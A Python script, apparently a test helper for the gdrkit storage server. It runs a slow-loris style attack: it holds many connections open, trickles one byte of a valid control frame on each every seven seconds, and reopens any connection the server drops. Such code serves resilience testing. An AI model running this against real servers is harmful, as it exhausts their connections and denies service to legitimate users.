"""An attack on a storage server: ``python slow_hellos.py HOST PORT COUNT``.

The attack keeps COUNT connections open, sends one byte of a valid header on each every 7 s, and replaces each
connection that the server closes. It prints ``ready`` after the server has closed one for the first time. At the end of
standard input, it prints the number of connections that it opened, and exits.
"""

from __future__ import annotations

import contextlib
import errno
import select
import socket
import sys
import time

from gdrkit.storage import messages
from gdrkit.storage.control import pack_request
from gdrkit.storage.wire import FrameType, pack_control

__all__ = ["main"]

_BYTE_PERIOD_S = 7.0
_POLL_PERIOD_S = 0.05


def main(host: str, port: int, count: int) -> None:
    """Attack until the end of standard input."""
    frame = pack_control(FrameType.CONTROL_REQUEST, pack_request(messages.ReadStatistics()), sequence=1)
    ends: dict[socket.socket, int] = {}
    opened, next_byte_s, is_ready = 0, 0.0, False
    while not select.select([sys.stdin], (), (), _POLL_PERIOD_S)[0]:
        readable = select.poll()
        for end in ends:
            readable.register(end, select.POLLIN)
        by_number = {end.fileno(): end for end in ends}
        ended = readable.poll(0)
        for number, _events in ended:
            end = by_number[number]
            with contextlib.suppress(OSError):
                end.recv(4096)
            del ends[end]
            end.close()
        while len(ends) < count:
            end = socket.socket()
            end.settimeout(0)
            if end.connect_ex((host, port)) not in {0, errno.EINPROGRESS}:
                end.close()
                break
            opened += 1
            # Every second connection sends a byte at once. The others are silent at first.
            ends[end] = 0
            if opened % 2:
                with contextlib.suppress(OSError):
                    ends[end] = end.send(frame[:1])
        if time.monotonic() >= next_byte_s:
            next_byte_s = time.monotonic() + _BYTE_PERIOD_S
            for end, sent in ends.items():
                with contextlib.suppress(OSError):
                    ends[end] += end.send(frame[sent : sent + 1])
        if not is_ready and ended:
            is_ready = True
            sys.stdout.write("ready\n")
            sys.stdout.flush()
    sys.stdout.write(f"{opened}\n")


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
